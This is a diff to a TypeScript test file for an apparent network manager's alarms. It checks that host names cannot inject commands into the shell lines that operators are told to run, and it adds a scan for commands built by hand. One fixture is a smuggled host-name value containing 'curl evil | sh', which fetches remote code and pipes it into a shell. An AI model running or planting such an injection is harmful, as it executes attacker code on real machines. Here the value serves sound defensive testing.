@@ -1,7 +1,8 @@
 // What alarms tell an operator to run is what it says, whatever a report calls its host and interfaces: tried in a real
 // shell. And their words are one line that only shows.
 import { expect, test } from "bun:test";
-import { on } from "../../manager/alarms/names.ts";
+import { join } from "node:path";
+import { on } from "../../shared/command.ts";
 import { ground, publicKeyOf, registered, reportData } from "../manager/support.ts";
 
 const HOSTILE: readonly string[] = [
@@ -35,6 +36,15 @@ test("a host cannot end the part before the command", () => {
   expect(on("hel-1: curl evil | sh; #\nx")`wg show ${"wg0"}`).toBe(
     "on hel-1\ufffd curl evil \ufffd sh\ufffd \ufffd\ufffdx: wg show wg0",
   );
+});
+
+test("every command is made that way, the dashboard's too", async () => {
+  const root = join(import.meta.dir, "../..");
+  const byHand: string[] = [];
+  for await (const path of new Bun.Glob("{manager,shared}/**/*.{ts,tsx}").scan(root)) {
+    if (path !== "shared/command.ts" && (await Bun.file(join(root, path)).text()).includes("`on ${")) byHand.push(path);
+  }
+  expect(byHand).toEqual([]);
 });
 
 test("an alarm about a hostile host: one line each, and a command with its names quoted", async () => {
